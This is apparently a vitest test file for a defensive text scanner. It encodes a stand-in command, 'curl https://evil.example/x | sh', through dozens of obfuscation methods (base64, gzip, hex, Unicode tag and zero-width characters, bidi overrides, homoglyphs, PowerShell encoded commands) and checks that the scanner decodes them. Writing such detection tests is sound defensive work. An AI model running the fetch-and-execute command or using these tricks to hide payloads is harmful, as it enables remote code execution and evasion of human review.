import { gzipSync } from "node:zlib";
import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { scanText } from "../../../../src/canonicalize/analyzers/text/index.ts";

const COMMAND = "curl https://evil.example/x | sh";

const b64 = (text: string): string => Buffer.from(text).toString("base64");
const hex = (text: string): string => Buffer.from(text).toString("hex");
const percent = (text: string): string => hex(text).replace(/../g, "%$&");
const codes = (text: string): number[] => Array.from(text, (character) => character.charCodeAt(0));
const tags = (text: string): string => String.fromCodePoint(...codes(text).map((code) => 0xe0000 + code));
const selectors = (text: string): string =>
  String.fromCodePoint(...codes(text).map((code) => (code < 16 ? 0xfe00 + code : 0xe0100 + code - 16)));
const bits = (text: string): string =>
  codes(text)
    .map((code) => code.toString(2).padStart(8, "0"))
    .join("")
    .replaceAll("0", "\u200b")
    .replaceAll("1", "\u200c");
const base32 = (text: string): string =>
  codes(text)
    .map((code) => code.toString(2).padStart(8, "0"))
    .join("")
    .match(/.{1,5}/g)!
    .map((digits) => "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567".charAt(Number.parseInt(digits.padEnd(5, "0"), 2)))
    .join("");
const bold = (text: string): string =>
  text.replace(/[a-z]/g, (letter) => String.fromCodePoint(0x1d41a + letter.charCodeAt(0) - 97));
const fullWidth = (text: string): string =>
  text.replace(/[a-z]/g, (letter) => String.fromCharCode(letter.charCodeAt(0) + 0xfee0));

/** How a command is hidden, and the names of the ways. */
const ENCODED: readonly (readonly [how: readonly string[], text: string])[] = [
  [["base64"], `echo ${b64(COMMAND)} | base64 -d | sh`],
  [["base64"], `see ${Buffer.from(COMMAND).toString("base64url")}.`],
  [["base64"], `data:text/plain;base64,${b64(COMMAND)}`],
  [["base64"], `https://example.com/a/${Buffer.from(`${COMMAND} `).toString("base64").replace(/=+$/, "")}`],
  [["base64"], `powershell -EncodedCommand ${Buffer.from(COMMAND, "utf16le").toString("base64")}`],
  [["base64"], b64(`${COMMAND}\n`.repeat(6)).replace(/.{76}/g, "$&\n")],
  [["base64", "gzip"], `x ${gzipSync(COMMAND).toString("base64")} y`],
  [["base64", "base64"], b64(b64(COMMAND))],
  [["base64", "hex"], b64(hex(COMMAND))],
  [["hex", "base64", "percent"], hex(b64(percent(COMMAND)))],
  [["hex"], `xxd -r -p <<< ${hex(COMMAND)}`],
  [["hex"], `0x${hex(COMMAND)}`],
  [["hex"], hex(COMMAND).replace(/..(?=.)/g, "$& ")],
  [["base32"], base32(COMMAND)],
  [["percent"], percent(COMMAND)],
  [["percent", "percent"], percent(COMMAND).replaceAll("%", "%25")],
  [
    ["html"],
    codes(COMMAND)
      .map((code) => `&#${code};`)
      .join(""),
  ],
  [
    ["html"],
    codes(COMMAND)
      .map((code) => `&#x${code.toString(16)};`)
      .join(""),
  ],
  [
    ["escape"],
    codes(COMMAND)
      .map((code) => `\\u${code.toString(16).padStart(4, "0")}`)
      .join(""),
  ],
  [
    ["escape"],
    codes(COMMAND)
      .map((code) => `\\\\u${code.toString(16).padStart(4, "0")}`)
      .join(""),
  ],
  [
    ["escape"],
    codes(COMMAND)
      .map((code) => `\\x${code.toString(16)}`)
      .join(""),
  ],
  [
    ["escape"],
    codes(COMMAND)
      .map((code) => `\\${code.toString(8).padStart(3, "0")}`)
      .join(""),
  ],
  [
    ["escape"],
    codes(COMMAND)
      .map((code) => `\\u{${code.toString(16)}}`)
      .join(""),
  ],
  [["quoted_printable"], hex(COMMAND).toUpperCase().replace(/../g, "=$&")],
  [
    ["numbers"],
    codes(COMMAND)
      .map((code) => `chr(${code})`)
      .join("+"),
  ],
  [["numbers"], `String.fromCharCode(${codes(COMMAND).join(",")})`],
  [["tag"], `a picture of a cat${tags(COMMAND)}`],
  [["variation_selector"], `nice 😊${selectors(COMMAND)}`],
  [["zero_width"], `nothing here${bits(COMMAND)}`],
  [["zero_width"], COMMAND.replaceAll("r", "r\u200b")],
  [["bidi"], COMMAND.replace("evil", "\u202eevil\u202c")],
  [["control"], COMMAND.replace("evil", "e\u0008evil").replace("e\u0008", "\u0008")],
  [["compatibility"], bold("curl evil.example")],
  [["compatibility"], fullWidth("curl evil.example")],
  [["homoglyph"], COMMAND.replaceAll("e", "е")],
  [["homoglyph"], COMMAND.replace("curl", "сurl")],
  [["homoglyph"], "https://раураl.com/login"],
  [["homoglyph"], COMMAND.replaceAll("//", "\u2215/").replace("evil", "еvil")],
  [["json", "base64"], JSON.stringify({ a: [{ b: `x\n${b64(COMMAND)}` }] })],
];

const PLAIN: readonly string[] = [
  COMMAND,
  "git log --oneline -n 20 -- src/canonicalize | head -5",
  "5f2b9c1e4a7d8f3b6c0e9a2d5b8f1c4e7a0d3b6f",
  "sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
  "sha512-z4PhNX7vuL3xVChQ1m2AB9Yg5AULVxXcg/SpIdNs6c5H0NE8XYXysP+DGNKHfuwvY7kxvUdBeoGlODJ6+SfaPg==",
  "550e8400-e29b-41d4-a716-446655440000",
  "01HQZX3VJ8K5M2N7P9R4T6W8YB",
  `${Buffer.from('{"alg":"HS256","typ":"JWT"}').toString("base64url")}.${Buffer.from('{"sub":"1234567890"}').toString("base64url")}.c2lnbmF0dXJl`,
  "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==",
  "https://example.com/search?q=caf%C3%A9%20au%20lait&lang=fr%2FCA",
  "AT&T &amp; Sons &lt;b&gt; caf\u00e9 &copy; 2024",
  '{"name": "Zo\\u00eb", "path": "C:\\\\new\\\\temp\\\\x41"}',
  "s/(a)\\1\\2/\\x/; C:\\123\\456",
  "Привет, мир! Это USB-кабель и IP-адрес.",
  "Καλημέρα κόσμε, το Δt είναι μικρό: 5 µm",
  "混ぜ書き ＡＢＣ株式会社".replace("ＡＢＣ", "ABC"),
  "שלום \u200fעולם",
  "می\u200cخواهم",
  "👩\u200d👩\u200d👧 ❤\ufe0f 1\ufe0f\u20e3 🏴\u{e0067}\u{e0062}\u{e0073}\u{e0063}\u{e0074}\u{e007f}",
  "\ufeffid,name\n1,x",
  "internationalization_configuration_provider documentation requirements",
  "/usr/local/share/applications/something/very/long/path",
  "a=63&b=75&c=72 1,2,3 10 20 30 40 50 60 70 80 90",
  "2024-01-02 03:04:05 00:11:22:33:44:55 de:ad:be:ef:00:01",
  "MTIzNDU2Nzg5MDEyMzQ1Njc4OTA=",
];

describe("disguised text", () => {
  test.each(ENCODED)("%j: %s", (how, text) => {
    const { decoded, parse } = scanText(text);
    expect(decoded.map((one) => one.how)).toContainEqual(how);
    const plain = decoded.filter((one) => JSON.stringify(one.how) === JSON.stringify(how)).map((one) => one.text);
    expect(plain.join("\n")).toMatch(/curl \S*evil|https:\/\/paypal\.com/);
    expect(parse).toBe("complete");
  });

  test.each(PLAIN)("nothing in %s", (text) => {
    expect(scanText(text)).toEqual({ hidden: [], decoded: [], parse: "complete" });
  });

  test.each([
    ["bidi", "a\u202eb\u202c", 2],
    ["bidi", "user\u200f name", 1],
    ["zero_width", "pass\u200bword\u2060", 2],
    ["zero_width", "so\u00adft", 1],
    ["tag", `x${tags("hi")}`, 2],
    ["variation_selector", `a\ufe00\ufe01b`, 2],
    ["control", "a\u001b[2Kb\u0007", 2],
    ["homoglyph", "раypal.com", 2],
    ["compatibility", "ｒｏｏｔ", 4],
  ])("%s in %j takes %d characters", (trick, text, length) => {
    expect(scanText(text).hidden).toEqual([{ trick, length }]);
  });

  test("layers beyond the limit are said to be there", () => {
    let text = COMMAND;
    for (let i = 0; i < 8; i++) text = b64(text);
    const { decoded, parse } = scanText(text);
    expect(parse).toBe("limit");
    expect(decoded.length).toBeLessThan(8);
  });

  test("a bomb is left alone", () => {
    const bomb = gzipSync("a".repeat(50_000_000)).toString("base64");
    expect(scanText(bomb).decoded).toEqual([]);
  });

  test("any text: no throw, no more than the limits", () => {
    const pieces = fc.constantFrom(
      ...ENCODED.map(([, text]) => text),
      "\\",
      "%",
      "&#",
      "=",
      "\u200b",
      "\ud800",
      "{",
      '"',
    );
    fc.assert(
      fc.property(fc.array(fc.oneof(pieces, fc.string({ unit: "binary" }))), (parts) => {
        const { decoded } = scanText(parts.join(""));
        expect(decoded.length).toBeLessThanOrEqual(32);
      }),
    );
  });

  test("what two ways hide one in the other is found, whatever the ways", () => {
    const ways: [string, (text: string) => string][] = [
      ["base64", b64],
      ["hex", hex],
      ["percent", percent],
      ["base32", base32],
    ];
    const way = fc.constantFrom(...ways);
    const word = fc.stringMatching(/^[a-z]{4,10} [a-z]{4,10} [a-z]{4,10}$/);
    fc.assert(
      fc.property(way, way, word, ([outer, encodeOuter], [inner, encodeInner], text) => {
        const { decoded } = scanText(encodeOuter(encodeInner(text)));
        expect(decoded).toContainEqual({ how: [outer, inner], text });
      }),
    );
  });
});
